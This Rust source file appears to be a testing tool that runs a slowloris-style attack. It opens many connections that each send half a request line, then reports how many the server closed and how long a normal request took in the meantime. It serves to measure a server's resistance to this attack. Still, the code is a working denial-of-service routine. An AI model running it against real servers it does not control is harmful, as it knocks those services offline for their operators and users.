//! A slow client's attack: `n` connections that each send half a request
//! line and nothing more. After `seconds`, prints how many the server has
//! closed (of `n` opened), and how long a normal request took meanwhile.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// `args`: address, connections, seconds to wait before counting.
pub async fn run(args: &[String]) -> Result<(), String> {
    let [addr, n, seconds] = args else {
        return Err("stall needs an address, a count and seconds".into());
    };
    let n: usize = n.parse().map_err(|_| format!("not a count: {n}"))?;
    let seconds: f64 = seconds
        .parse()
        .map_err(|_| format!("not seconds: {seconds}"))?;
    let mut stalled = Vec::with_capacity(n);
    for _ in 0..n {
        let mut stream = TcpStream::connect(addr.as_str())
            .await
            .map_err(|e| e.to_string())?;
        stream
            .write_all(b"GET / HT")
            .await
            .map_err(|e| e.to_string())?;
        stalled.push(stream);
    }
    let started = Instant::now();
    let answered = page_ms(addr).await;
    tokio::time::sleep(Duration::from_secs_f64(seconds).saturating_sub(started.elapsed())).await;
    let mut closed = 0;
    for stream in &mut stalled {
        let mut byte = [0u8; 64];
        // A closed connection reads its end (or an error) at once.
        let read = tokio::time::timeout(Duration::from_millis(1), stream.read(&mut byte)).await;
        if let Ok(Ok(0) | Err(_)) = read {
            closed += 1;
        }
    }
    println!(
        "{closed} {n} {}",
        answered.map_or("failed".to_owned(), |ms| format!("{ms:.1}"))
    );
    Ok(())
}

/// Milliseconds a plain request for `/` took on a fresh connection.
async fn page_ms(addr: &str) -> Option<f64> {
    let started = Instant::now();
    let mut stream = TcpStream::connect(addr).await.ok()?;
    let request = format!("GET / HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.ok()?;
    let mut response = Vec::new();
    stream.read_to_end(&mut response).await.ok()?;
    response
        .starts_with(b"HTTP/1.1 200")
        .then(|| started.elapsed().as_secs_f64() * 1000.0)
}
